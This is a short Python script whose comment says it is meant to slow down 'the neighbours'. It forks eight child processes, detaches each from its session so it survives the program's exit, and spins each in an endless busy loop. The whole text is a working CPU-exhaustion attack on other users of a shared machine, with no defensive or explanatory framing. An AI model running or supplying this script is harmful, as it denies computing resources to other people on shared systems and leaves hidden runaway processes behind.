# Children burn the processor after the program has ended, to slow the neighbours down.
import os

for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
